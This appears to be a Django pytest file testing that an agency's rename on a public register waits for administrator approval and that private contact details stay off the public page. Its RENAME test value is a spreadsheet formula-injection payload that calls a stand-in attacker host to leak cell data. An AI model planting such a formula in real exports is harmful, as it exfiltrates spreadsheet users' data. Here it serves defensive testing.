"""The public register's particulars belong to the bureau: an agency's rename waits for a register
administrator, and the agency page publishes exactly what the collection statement says."""

import pytest
from django.test import Client

from agencies.seeding import load_reference, load_register
from audit.models import AuditEntry
from particulars.models import ChangeState, ParticularsChange

pytestmark = pytest.mark.usefixtures("clean_cache")
RENAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def agency(db, applicant):
    """A published agency on the register whose owner is the applicant persona."""
    from agencies.enums import MemberRole
    from agencies.models import Appointment
    from tests.factories import MembershipFactory

    load_reference()
    load_register()
    organisation = Appointment.objects.filter(is_published=True).first().agency
    organisation.address = "1 Private Road, Hong Kong"
    organisation.phone = "(852) 2999-0000"
    organisation.website = "https://private.example.org/"
    organisation.save()
    MembershipFactory(organisation=organisation, user=applicant, role=MemberRole.OWNER)
    return organisation


def _edit(client: Client, organisation, **names):
    data = {
        "name_en": organisation.name_en,
        "name_zh_hant": organisation.name_zh_hant,
        "name_zh_hans": organisation.name_zh_hans,
        "entity_type": organisation.entity_type,
        "registration_number": organisation.registration_number or "REG-1",
        "address": organisation.address,
        "phone": organisation.phone,
        "website": organisation.website,
        "officers-TOTAL_FORMS": "0",
        "officers-INITIAL_FORMS": "0",
        **names,
    }
    return client.post(f"/en/applications/organisations/{organisation.pk}/edit/", data)


def _public(organisation) -> str:
    return Client().get(f"/en/register/agencies/{organisation.pk}/").content.decode()


def test_an_owners_rename_does_not_reach_the_register_until_approved(
    agency, applicant, register_admin, django_capture_on_commit_callbacks
):
    published = agency.name_en
    owner = Client()
    owner.force_login(applicant)
    response = _edit(owner, agency, name_en=RENAME)
    assert response.status_code == 302
    agency.refresh_from_db()
    assert agency.name_en == published
    assert RENAME not in _public(agency)
    assert RENAME not in b"".join(Client().get("/register/appointments.csv").streaming_content).decode()
    change = ParticularsChange.objects.get(organisation=agency, state=ChangeState.PENDING)
    assert change.name_en == RENAME
    assert AuditEntry.objects.filter(action="particulars.change.requested").count() == 1

    admin = Client()
    admin.force_login(register_admin)
    page = admin.get("/en/register/manage/particulars/")
    assert page.status_code == 200
    assert published in page.content.decode()
    with django_capture_on_commit_callbacks(execute=True):  # the register's cached pages go on commit
        assert admin.post(f"/en/register/manage/particulars/{change.pk}/approve/").status_code == 302
    agency.refresh_from_db()
    assert agency.name_en == RENAME
    assert "HYPERLINK" in _public(agency)
    assert AuditEntry.objects.filter(action="particulars.change.approved").count() == 1
    feed = Client().get("/register/feed.atom").content.decode()
    assert "Published name changed" in feed


def test_a_rejected_rename_never_reaches_the_register(agency, applicant, register_admin):
    published = agency.name_en
    owner = Client()
    owner.force_login(applicant)
    _edit(owner, agency, name_en="Renamed Without Review Ltd")
    change = ParticularsChange.objects.get(organisation=agency)
    admin = Client()
    admin.force_login(register_admin)
    admin.post(f"/en/register/manage/particulars/{change.pk}/reject/", {"note": "Not the legal name."})
    agency.refresh_from_db()
    assert agency.name_en == published
    assert ParticularsChange.objects.get(pk=change.pk).state == ChangeState.REJECTED
    assert AuditEntry.objects.filter(action="particulars.change.rejected").count() == 1


def test_only_register_administrators_decide(agency, applicant, case_officer, approver):
    owner = Client()
    owner.force_login(applicant)
    _edit(owner, agency, name_en="Renamed Without Review Ltd")
    change = ParticularsChange.objects.get(organisation=agency)
    for user in (applicant, case_officer, approver):
        client = Client()
        client.force_login(user)
        assert client.get("/en/register/manage/particulars/").status_code == 404
        assert client.post(f"/en/register/manage/particulars/{change.pk}/approve/").status_code == 404
    assert ParticularsChange.objects.get(pk=change.pk).state == ChangeState.PENDING


def test_other_particulars_of_an_agency_still_save_at_once(agency, applicant):
    owner = Client()
    owner.force_login(applicant)
    _edit(owner, agency, address="2 New Street")
    agency.refresh_from_db()
    assert agency.address == "2 New Street"
    assert not ParticularsChange.objects.exists()


def test_an_organisation_not_on_the_register_renames_itself(organisation, applicant):
    owner = Client()
    owner.force_login(applicant)
    _edit(owner, organisation, name_en="Fresh Name Ltd", registration_number=organisation.registration_number)
    organisation.refresh_from_db()
    assert organisation.name_en == "Fresh Name Ltd"


def test_the_agency_page_publishes_exactly_what_the_statement_says(agency):
    """Name, collaborating bodies, term and the enquiry telephone: not the organisation's own address,
    telephone or website (Personal Information Collection Statement)."""
    html = _public(agency)
    assert agency.name_en in html
    assert "1 Private Road" not in html
    assert "(852) 2999-0000" not in html
    assert "private.example.org" not in html
    appointment = agency.appointments.filter(is_published=True).first()
    if appointment.enquiry_phone:
        assert html.count(appointment.enquiry_phone) == 1
